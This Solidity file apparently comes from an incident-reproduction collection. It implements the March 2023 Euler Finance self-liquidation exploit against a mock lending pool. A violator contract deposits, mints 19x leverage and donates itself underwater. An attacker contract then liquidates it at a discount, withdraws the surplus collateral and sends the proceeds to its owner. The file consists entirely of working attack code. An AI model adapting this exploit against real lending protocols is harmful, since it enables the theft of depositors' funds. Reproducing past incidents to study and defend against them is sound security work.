// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {SelfLiqLendingPool} from "../incidents/SelfLiqLendingPool.sol";

/// @title SelfLiqViolator
/// @notice Euler 2023's violator account: deposit, mint 19x, donate itself
/// underwater.
contract SelfLiqViolator {
    /// @notice Runs the violator's steps.
    function run(SelfLiqLendingPool pool, IERC20 asset, uint256 deposit, uint256 donation) external {
        asset.approve(address(pool), deposit);
        pool.deposit(deposit);
        pool.mint(deposit * 19);
        pool.donateToReserves(donation);
    }
}

/// @title SelfLiqAttacker
/// @notice Euler Finance (Mar 2023): the liquidator half. One transaction:
/// the violator levers up and donates itself underwater, this contract
/// liquidates it at the 20% discount and withdraws the surplus collateral.
contract SelfLiqAttacker {
    address public immutable owner;
    SelfLiqLendingPool public immutable pool;
    IERC20 public immutable asset;
    SelfLiqViolator public immutable violator;

    error NotOwner();

    constructor(SelfLiqLendingPool pool_, IERC20 asset_) {
        owner = msg.sender;
        pool = pool_;
        asset = asset_;
        violator = new SelfLiqViolator();
    }

    /// @notice The exploit; `donation` is the violator's donated collateral.
    function attack(uint256 donation) external {
        if (msg.sender != owner) revert NotOwner();
        uint256 capital = asset.balanceOf(address(this));
        asset.transfer(address(violator), capital);
        violator.run(pool, asset, capital, donation);
        pool.liquidate(address(violator));
        // Withdraw everything the health check allows.
        uint256 coll = pool.collateralOf(address(this));
        uint256 need = (pool.debtOf(address(this)) * 10_000 + pool.CF_BPS() - 1) / pool.CF_BPS();
        pool.withdraw(coll - need);
        asset.transfer(owner, asset.balanceOf(address(this)));
    }
}
